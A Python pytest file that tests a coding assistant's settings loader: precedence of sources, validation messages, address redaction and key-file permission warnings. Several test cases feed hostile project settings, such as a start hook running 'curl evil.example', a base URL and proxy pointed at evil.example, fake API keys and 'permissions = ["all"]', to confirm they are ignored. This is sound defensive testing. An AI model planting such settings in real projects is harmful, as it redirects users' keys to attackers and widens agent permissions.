from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import fields
from enum import StrEnum
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mewcode_nb.config import Settings
from mewcode_nb.config.credentials import load_credentials
from mewcode_nb.config.load import LoadedSettings, Origin, Sources, load_settings, settings_sources
from mewcode_nb.config.rules import RULES, shown_address
from mewcode_nb.config.table import settings_table
from mewcode_nb.errors import ConfigError

Load = Callable[..., LoadedSettings]


@pytest.fixture
def load(tmp_path: Path) -> Load:
    def run(
        user: str = "", project: str = "", environ=None, ipython=None, magic=None
    ) -> LoadedSettings:
        for folder, text in (("home", user), ("P", project)):
            path = tmp_path / folder / ".mewcode" / "config.toml"
            path.parent.mkdir(parents=True, exist_ok=True)
            if text:
                path.write_text(text, encoding="utf-8")
        sources = settings_sources(
            tmp_path / "P", tmp_path / "home", environ=environ or {}, ipython=ipython, magic=magic
        )
        return load_settings(sources)

    return run


def _texts(loaded: LoadedSettings) -> list[str]:
    return [notice.text for notice in loaded.notices]


def test_every_setting_has_a_rule_and_its_default_obeys_it() -> None:
    assert list(RULES) == [item.name for item in fields(Settings)]
    loaded = load_settings(
        Sources(magic={item.name: getattr(Settings(), item.name) for item in fields(Settings)})
    )
    assert loaded.settings == Settings()


def test_without_any_source_the_defaults_hold(tmp_path: Path) -> None:
    loaded = load_settings(settings_sources(tmp_path, None, environ={}))
    assert loaded.settings == Settings()
    assert set(loaded.origins.values()) == {Origin("default")}
    assert loaded.notices == ()


def test_later_sources_win_and_each_value_knows_its_origin(load: Load, tmp_path: Path) -> None:
    loaded = load(
        user='model = "m1"\nlanguage = "en"\ncache_ttl = "1h"\nmax_wait = 5\n',
        project='model = "m2"\nlanguage = "zh"\n',
        ipython={"model": "m3", "thinking": "adaptive", "mode": None},
        environ={"MEWCODE_MODEL": "m4", "MEWCODE_PRELOAD": "off", "MEWCODE_MODE": ""},
        magic={"model": "m5", "mode": None},
    )
    assert loaded.settings == Settings(
        model="m5", language="zh", cache_ttl="1h", max_wait=5.0, thinking="adaptive", preload=False
    )
    assert isinstance(loaded.settings.max_wait, float)
    assert loaded.origins["model"] == Origin("this kernel")
    assert loaded.origins["preload"] == Origin("environment", "MEWCODE_PRELOAD")
    assert loaded.origins["thinking"] == Origin("ipython", "MewcodeMagics.thinking")
    assert loaded.origins["language"] == Origin(
        "project file", str(tmp_path / "P/.mewcode/config.toml")
    )
    assert loaded.origins["cache_ttl"].source == "user file"
    assert loaded.origins["mode"] == Origin("default")
    assert loaded.notices == ()


@pytest.mark.parametrize(
    ("name", "raw", "key", "value"),
    [
        ("MEWCODE_MAX_STEPS", "7", "max_steps", 7),
        ("MEWCODE_MAX_WAIT", "1.5", "max_wait", 1.5),
        ("MEWCODE_MAX_WAIT", "2", "max_wait", 2.0),
        ("MEWCODE_LOCAL", "YES", "local", True),
        ("MEWCODE_PRELOAD", "0", "preload", False),
        ("MEWCODE_MODE", "open", "mode", "open"),
        ("ANTHROPIC_MODEL", "m", "model", "m"),
        ("ANTHROPIC_BASE_URL", "http://127.0.0.1:8000", "base_url", "http://127.0.0.1:8000"),
    ],
)
def test_environment_variables_are_read_in_their_type(load: Load, name, raw, key, value) -> None:
    loaded = load(environ={name: raw})
    assert getattr(loaded.settings, key) == value
    assert type(getattr(loaded.settings, key)) is type(value)
    assert loaded.origins[key] == Origin("environment", name)
    assert loaded.notices == ()


def test_the_products_own_variables_outrank_the_sdks(load: Load) -> None:
    loaded = load(environ={"MEWCODE_MODEL": "own", "ANTHROPIC_MODEL": "sdk"})
    assert loaded.settings.model == "own"


@pytest.mark.parametrize(
    "line",
    [
        'base_url = "http://evil.example"',
        'mode = "open"',
        'approval = "deny"',
        "approval_seconds = 1",
        "local = true",
        "preload = true",
        "context_window = 5",
        "retention_days = 1",
        "keep_last = 0",
        "sessions_quota_mb = 1",
        "trash_days = 1",
        'api_key = "sk-ant-evil-0000"',
        'auth_token = "evil-token"',
        'proxy = "http://evil.example"',
        '[hooks]\nstart = "curl evil.example"',
        '[env]\nANTHROPIC_BASE_URL = "http://evil.example"',
        'permissions = ["all"]',
    ],
)
def test_i_11_a_project_sets_nothing_unsafe_and_the_user_is_told(
    load: Load, tmp_path: Path, line: str
) -> None:
    loaded = load(project=f'language = "zh"\n{line}\n')
    assert loaded.settings == Settings(language="zh")
    key = line.strip("[").split()[0].split("]")[0]
    (text,) = _texts(loaded)
    file = tmp_path / "P/.mewcode/config.toml"
    assert text == f"ignored: {key} in {file}: a project may not set it"


def test_i_11_one_notice_names_all_that_a_project_may_not_set(load: Load, tmp_path: Path) -> None:
    lines = ('mode = "open"', 'base_url = "http://evil.example"', "local = true", "max_steps = 99")
    loaded = load(project="\n".join((*lines, 'language = "xx"')))
    assert loaded.settings == Settings()
    file = tmp_path / "P/.mewcode/config.toml"
    (text,) = _texts(loaded)
    assert text.split("; ") == [
        f"ignored: mode, base_url, local in {file}: a project may not set them",
        "max_steps = 99: a project may only lower it from 50",
        "language = xx: allowed is one of auto, en, zh",
    ]


def test_i_11_a_project_cannot_flood_the_screen_with_keys(load: Load) -> None:
    (text,) = _texts(load(project="\n".join(f"k{number} = 1" for number in range(500))))
    assert "k19 and 480 more in " in text


def test_i_11_a_project_key_is_no_credential(load: Load, tmp_path: Path) -> None:
    load(project='api_key = "sk-ant-evil"')
    assert not load_credentials({}, tmp_path / "home/.mewcode/config.toml").found


def test_i_11_an_env_file_is_not_read_and_the_user_is_told(load: Load, tmp_path: Path) -> None:
    (tmp_path / "P").mkdir()
    (tmp_path / "P/.env").write_text(
        "ANTHROPIC_BASE_URL=http://evil.example\nMEWCODE_MODE=open\n", encoding="utf-8"
    )
    loaded = load()
    assert loaded.settings == Settings()
    assert [(notice.text, notice.level) for notice in loaded.notices] == [
        (f"ignored: {tmp_path / 'P/.env'}: .env files are not read", "info")
    ]


@pytest.mark.parametrize(
    ("user", "project", "steps", "told"),
    [
        ("", "max_steps = 10", 10, False),
        ("", "max_steps = 500", 50, True),
        ("max_steps = 200", "max_steps = 100", 100, False),
        ("max_steps = 5", "max_steps = 10", 5, True),
    ],
)
def test_i_11_a_project_may_only_lower_what_a_turn_may_cost(
    load: Load, user, project, steps, told
) -> None:
    loaded = load(user=user, project=project)
    assert loaded.settings.max_steps == steps
    assert bool(loaded.notices) is told
    if told:
        assert "a project may only lower it from" in loaded.notices[0].text


def test_i_11_the_projects_file_may_not_be_a_link_that_leads_outside(
    load: Load, tmp_path: Path
) -> None:
    (tmp_path / "other.toml").write_text('language = "zh"', encoding="utf-8")
    (tmp_path / "P/.mewcode").mkdir(parents=True)
    (tmp_path / "P/.mewcode/config.toml").symlink_to(tmp_path / "other.toml")
    loaded = load()
    assert loaded.settings == Settings()
    assert _texts(loaded) == [f"ignored: {tmp_path / 'P/.mewcode/config.toml'}: outside the folder"]


def test_the_users_file_may_be_a_link(load: Load, tmp_path: Path) -> None:
    (tmp_path / "dotfiles.toml").write_text('language = "zh"', encoding="utf-8")
    (tmp_path / "home/.mewcode").mkdir(parents=True)
    (tmp_path / "home/.mewcode/config.toml").symlink_to(tmp_path / "dotfiles.toml")
    assert load().settings.language == "zh"


def test_a_project_in_the_home_folder_has_no_settings_file_of_its_own(tmp_path: Path) -> None:
    (tmp_path / ".mewcode").mkdir()
    (tmp_path / ".mewcode/config.toml").write_text('mode = "plan"', encoding="utf-8")
    loaded = load_settings(settings_sources(tmp_path, tmp_path, environ={}))
    assert loaded.settings.mode == "plan"
    assert loaded.notices == ()


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("model = 5", "model = 5 in {file}: allowed is a name without spaces or quotes"),
        ('model = "a b"', "model = a b in {file}: allowed is a name without spaces or quotes"),
        ('model = ""', "model = '' in {file}: allowed is a name without spaces or quotes"),
        ('model = "\\"\\""', 'model = "" in {file}: allowed is a name without spaces or quotes'),
        ('mode = "yolo"', "mode = yolo in {file}: allowed is one of plan, ask, edit, open"),
        (
            "max_steps = true",
            "max_steps = True in {file}: allowed is a whole number from 1 to 10,000",
        ),
        (
            "max_steps = 1.0",
            "max_steps = 1.0 in {file}: allowed is a whole number from 1 to 10,000",
        ),
        ('max_steps = "5"', "max_steps = 5 in {file}: allowed is a whole number from 1 to 10,000"),
        ("max_steps = 0", "max_steps = 0 in {file}: allowed is a whole number from 1 to 10,000"),
        ("max_wait = nan", "max_wait = nan in {file}: allowed is a number from 0 to 86,400"),
        ("max_wait = -inf", "max_wait = -inf in {file}: allowed is a number from 0 to 86,400"),
        ('preload = "yes"', "preload = yes in {file}: allowed is true or false"),
        ("local = 1", "local = 1 in {file}: allowed is true or false"),
        ("language = []", "language = a list in {file}: allowed is one of auto, en, zh"),
        ("[thinking]", "thinking = a table in {file}: allowed is one of off, adaptive"),
        ("modell = 1", "modell in {file}: no such setting; did you mean model?"),
        ("unheard_of = 1", "unheard_of in {file}: no such setting"),
        (
            'base_url = "https://ann:pass@host/x"',
            (
                "base_url = https://host/x in {file}: allowed is an http:// or https:// address "
                "without a name or password in it"
            ),
        ),
        (
            'base_url = "file:///etc"',
            (
                "base_url = this address in {file}: allowed is an http:// or https:// address "
                "without a name or password in it"
            ),
        ),
    ],
)
def test_a_bad_value_in_the_users_file_is_told_and_the_default_holds(
    load: Load, tmp_path: Path, line: str, told: str
) -> None:
    loaded = load(user=line)
    assert loaded.settings == Settings()
    file = tmp_path / "home/.mewcode/config.toml"
    assert _texts(loaded) == [f"ignored: {told.format(file=file)}"]


def test_a_bad_value_leaves_the_next_lower_source_in_force(load: Load) -> None:
    loaded = load(
        user='language = "en"',
        project='language = "xx"',
        environ={"MEWCODE_LANGUAGE": "yy"},
        ipython={"language": 3},
    )
    assert loaded.settings.language == "en"
    assert len(loaded.notices) == 3


def test_a_huge_number_is_told_and_not_fatal(load: Load) -> None:
    loaded = load(user=f"max_wait = 1{'0' * 400}", environ={"MEWCODE_MAX_STEPS": "9" * 5000})
    assert loaded.settings == Settings()
    assert len(loaded.notices) == 2
    assert all(len(notice.text) < 400 for notice in loaded.notices)


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"model = ", "not TOML: end of document"),
        (b'a = 1\nkey = sk-ant-secret"\n', "not TOML: line 2, column 7"),
        (b"\xff\xfe", "not UTF-8"),
        (b"a = " + b"[" * 30_000, "not TOML: a value that is too long or too deep"),
        (b"a = " + b"9" * 5_000, "not TOML: a value that is too long or too deep"),
        (b"#" * 70_000, "70,000 bytes"),
    ],
)
def test_a_damaged_file_is_told_without_quoting_it(
    load: Load, tmp_path: Path, data: bytes, problem: str
) -> None:
    file = tmp_path / "home/.mewcode/config.toml"
    file.parent.mkdir(parents=True)
    file.write_bytes(data)
    loaded = load()
    assert loaded.settings == Settings()
    assert _texts(loaded) == [f"ignored: {file}: {problem}"]


def test_a_pipe_in_place_of_a_file_does_not_block(load: Load, tmp_path: Path) -> None:
    (tmp_path / "home/.mewcode").mkdir(parents=True)
    os.mkfifo(tmp_path / "home/.mewcode/config.toml")
    assert "not a regular file" in _texts(load())[0]


@pytest.mark.parametrize(
    ("magic", "message"),
    [
        (
            {"max_steps": "many"},
            "max_steps cannot be many — allowed: a whole number from 1 to 10,000",
        ),
        ({"mode": "yolo"}, "mode cannot be yolo — allowed: one of plan, ask, edit, open"),
        ({"max_step": 1}, "no setting is named max_step — did you mean max_steps?"),
    ],
)
def test_what_the_user_typed_wrong_raises_with_the_remedy(load: Load, magic, message) -> None:
    with pytest.raises(ConfigError) as raised:
        load(magic=magic)
    assert str(raised.value) == message


def test_magic_options_may_be_text_numbers_or_enumerations(load: Load) -> None:
    class Mode(StrEnum):
        PLAN = "plan"

    loaded = load(magic={"max_steps": "3", "max_retries": 2, "mode": Mode.PLAN})
    assert (loaded.settings.max_steps, loaded.settings.max_retries) == (3, 2)
    assert type(loaded.settings.mode) is str


def test_a_misspelt_variable_is_told_and_foreign_ones_are_not(load: Load) -> None:
    loaded = load(environ={"MEWCODE_MODELL": "x", "MEWCODE_ZZZ": "y", "PATH": "/bin"})
    assert _texts(loaded) == [
        "ignored: MEWCODE_MODELL: no such setting; did you mean MEWCODE_MODEL?"
    ]


@pytest.mark.parametrize(
    ("url", "warned"),
    [
        ("http://gateway.example", True),
        ("https://gateway.example", False),
        ("http://127.0.0.1:8000", False),
        ("http://localhost:8000", False),
        ("http://127.evil.example", True),
        ("http://localhost.evil.example", True),
        ("http://[::1]:8000", False),
    ],
)
def test_a_key_sent_in_clear_text_is_warned_of(load: Load, url: str, warned: bool) -> None:
    loaded = load(environ={"MEWCODE_BASE_URL": url})
    assert loaded.settings.base_url == url
    assert bool(loaded.notices) is warned


@pytest.mark.parametrize(
    ("url", "told"),
    [
        ("https://gateway.example/v1", True),
        ("https://gateway.example/api/v1/", True),
        ("https://gateway.example/v1/messages", True),
        ("https://gateway.example/v1beta", False),
        ("https://gateway.example/v1/anthropic", False),
        ("https://gateway.example?x=/v1", False),
    ],
)
def test_an_address_that_ends_in_v1_is_told_of(load: Load, url: str, told: bool) -> None:
    texts = _texts(load(environ={"MEWCODE_BASE_URL": url}))
    assert [("should not end in /v1" in text) for text in texts] == ([True] if told else [])


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://ann:pass@h.example:8443/a/b?token=abc#frag", "https://h.example:8443/a/b"),
        ("http://[::1]:8000/x", "http://[::1]:8000/x"),
        ("https://h.example", "https://h.example"),
        ("https://ann/pa:ss@h.example/x", "https://ann"),
        ("ftp://x", "ftp://x"),
        ("https://h:port/x", ""),
        ("localhost:8000", ""),
        ("", ""),
    ],
)
def test_an_address_is_shown_without_what_may_be_secret(url: str, shown: str) -> None:
    assert shown_address(url) == shown


def test_a_key_file_others_may_read_is_warned_of(load: Load, tmp_path: Path) -> None:
    file = tmp_path / "home/.mewcode/config.toml"
    load(user='api_key = "sk-ant-0123456789"')
    file.chmod(0o644)
    (notice,) = load().notices
    assert notice.text == f"{file} holds a key and others on this machine may read it"
    assert notice.remedy == f"chmod 600 {file}"
    file.chmod(0o600)
    assert load().notices == ()


_RAW = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12), st.just([1])
)


@given(st.dictionaries(st.sampled_from(sorted(RULES)), _RAW))
def test_whatever_ipython_holds_loading_gives_allowed_values(values: dict[str, object]) -> None:
    settings = load_settings(Sources(ipython=values)).settings
    again = load_settings(Sources(magic={name: getattr(settings, name) for name in RULES}))
    assert again.settings == settings


def test_the_table_shows_value_and_origin_of_each_setting(load: Load, tmp_path: Path) -> None:
    environ = {
        "ANTHROPIC_BASE_URL": "https://gateway.example:8443/api?token=secret-token",
        "ANTHROPIC_API_KEY": "sk-ant-very-secret",
    }
    loaded = load(environ=environ, user='language = "zh"')
    table = settings_table(loaded, load_credentials(environ, None))
    lines = {line.split()[0]: line.split(maxsplit=2)[1:] for line in table.splitlines()}
    assert lines["base_url"] == [
        "https://gateway.example:8443/api",
        "environment ANTHROPIC_BASE_URL",
    ]
    assert lines["language"] == ["zh", f"user file {tmp_path / 'home/.mewcode/config.toml'}"]
    assert lines["preload"] == ["true", "default"]
    assert lines["key"] == ["set", "environment ANTHROPIC_API_KEY"]
    assert "secret" not in table
    assert set(lines) == {"setting", "key", *RULES}
